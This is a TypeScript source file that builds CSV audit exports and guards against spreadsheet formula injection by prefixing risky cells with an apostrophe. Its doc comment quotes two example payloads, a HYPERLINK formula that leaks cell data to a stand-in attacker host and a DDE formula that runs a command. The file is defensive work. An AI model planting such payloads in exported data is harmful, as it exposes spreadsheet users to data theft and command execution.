/**
 * Characters that make a spreadsheet treat a cell as a formula. An audit export carries text that
 * outsiders control: a Keep reason typed in chat, chat ids and emails, ServiceNow user names, error
 * messages from the source. Opened in Excel, LibreOffice or Google Sheets, a cell such as
 * `=HYPERLINK("https://evil.example/?"&A1,"click")` or `=cmd|' /C calc'!A0` would run as a formula
 * (CSV/formula injection). A leading apostrophe makes the spreadsheet show the text literally.
 * Besides = + - @, tab and carriage return are included, as OWASP recommends: some spreadsheets
 * strip them and then read a formula behind them.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Prefixes an apostrophe to text a spreadsheet would otherwise evaluate as a formula. */
export function neutraliseFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** One RFC 4180 field: quoted when it holds a comma, a quote or a line break; quotes doubled. */
export function csvField(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return "";
  const text = neutraliseFormula(String(value));
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One RFC 4180 record, CRLF-terminated. */
export function csvRow(values: readonly (string | number | null | undefined)[]): string {
  return `${values.map(csvField).join(",")}\r\n`;
}
